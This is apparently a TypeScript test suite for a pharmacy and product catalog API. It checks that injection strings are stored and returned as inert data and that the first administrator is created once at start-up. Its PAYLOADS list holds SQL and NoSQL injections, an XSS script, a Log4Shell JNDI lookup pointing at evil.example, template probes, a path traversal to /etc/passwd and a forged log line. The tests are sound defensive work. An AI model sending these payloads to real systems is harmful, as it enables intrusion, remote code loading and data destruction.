import assert from 'node:assert/strict';
import { InvocationContext } from '@azure/functions';
import { after, before, describe, it } from 'node:test';
import { gtinCheckDigit } from '../../shared/catalog/domain/gtin';
import { ensureAdministrator } from '../../shared/identity/commands';
import { testApp } from '../support/app';
import { pharmacyBody } from '../support/fixtures';
import { invoke } from '../support/http';

/** What attackers send: SQL, Cosmos SQL, NoSQL operators, markup, templates, paths, log forging. */
const PAYLOADS = [
  "Robert'); DROP TABLE events;--",
  "' OR '1'='1",
  'SELECT * FROM c WHERE c.id > ""',
  '{"$gt": ""}',
  '<script>alert("xss")</script>',
  '${jndi:ldap://evil.example/a}',
  '{{7*7}} #{7*7}',
  '../../../etc/passwd',
  'line one\nINFO forged log line',
  'ÁÉÍÓÚ ção — emoji 💊',
];

describe('injection payloads are stored and returned as plain data', () => {
  let app: Awaited<ReturnType<typeof testApp>>;
  before(async () => {
    app = await testApp();
  });
  after(() => app.services.dispose());

  it('in every string field of a pharmacy', async () => {
    for (const payload of PAYLOADS) {
      const body = pharmacyBody({
        tradeName: payload,
        legalName: payload,
        address: { street: payload, number: payload.slice(0, 20).trim(), complement: payload, district: payload, city: payload, state: 'SP', postalCode: '01310-100' },
      });
      const created = await invoke(app.handler('registerPharmacy'), { method: 'POST', body });
      assert.equal(created.status, 201, payload);
      const read = await invoke(app.handler('getPharmacy'), { params: { id: created.body.id }, headers: { 'x-min-version': '1' } });
      assert.deepEqual(
        [read.body.tradeName, read.body.legalName, read.body.address.street, read.body.address.complement, read.body.address.district, read.body.address.city],
        [payload, payload, payload, payload, payload, payload],
      );
      const byCity = await invoke(app.handler('listPharmacies'), { path: `pharmacies?city=${encodeURIComponent(payload)}&limit=100` });
      assert.ok(byCity.body.items.some((p: { id: string }) => p.id === created.body.id), `found by the city ${payload}`);
    }
  });

  it('in every string field of a product, and in its search', async () => {
    for (const [index, payload] of PAYLOADS.entries()) {
      const body = `78950${String(index).padStart(7, '0')}`;
      const product = {
        gtin: body + gtinCheckDigit(body),
        name: payload,
        brand: payload,
        manufacturer: payload,
        activeIngredients: [payload],
        presentation: payload,
        form: 'other',
        category: 'other',
        prescription: 'none',
        generic: false,
      };
      const created = await invoke(app.handler('registerProduct'), { method: 'POST', body: product });
      assert.equal(created.status, 201, payload);
      const read = await invoke(app.handler('getProduct'), { params: { id: created.body.id }, headers: { 'x-min-version': '1' } });
      assert.deepEqual([read.body.name, read.body.brand, read.body.manufacturer, read.body.presentation, read.body.activeIngredients], [payload, payload, payload, payload, [payload]]);
      const search = await invoke(app.handler('searchProducts'), { path: `products?q=${encodeURIComponent(payload)}&limit=100` });
      assert.ok([200, 400].includes(search.status), `search for ${payload}: ${search.status}`);
    }
  });

  it('in a person’s name, sealed and opened intact', async () => {
    const payload = PAYLOADS[0];
    await invoke(app.handler('registerUser', { as: 'anonymous' }), { method: 'POST', body: { email: 'bobby@exemplo.com.br', password: 'little bobby tables pass', name: payload } });
    const token = await invoke(app.handler('issueToken'), { method: 'POST', body: { grant_type: 'password', username: 'bobby@exemplo.com.br', password: 'little bobby tables pass' } });
    const me = await invoke(app.handler('currentUser', { as: 'anonymous' }), { headers: { authorization: `Bearer ${token.body.access_token}` } });
    assert.equal(me.body.name, payload);
  });

  it('leaves the event store whole', async () => {
    const all = await app.services.eventStore.readAll(0, 100_000);
    assert.ok(all.length >= PAYLOADS.length * 2);
    await app.services.eventStore.ping();
  });
});

describe('the first administrator', () => {
  it('comes from settings at start-up, once, with the admin role', async () => {
    const app = await testApp();
    const context = new InvocationContext({ functionName: 'bootstrap', logHandler: () => {} });
    const first = await ensureAdministrator(app.services, 'root@farmacias.example', 'first admin passphrase', context);
    const again = await ensureAdministrator(app.services, 'root@farmacias.example', 'first admin passphrase', context);
    assert.equal(again, first);
    const token = await invoke(app.handler('issueToken'), { method: 'POST', body: { grant_type: 'password', username: 'root@farmacias.example', password: 'first admin passphrase' } });
    const claims = JSON.parse(Buffer.from(token.body.access_token.split('.')[1], 'base64url').toString());
    assert.deepEqual(claims.roles, ['admin', 'customer']);
    await app.services.dispose();
  });
});
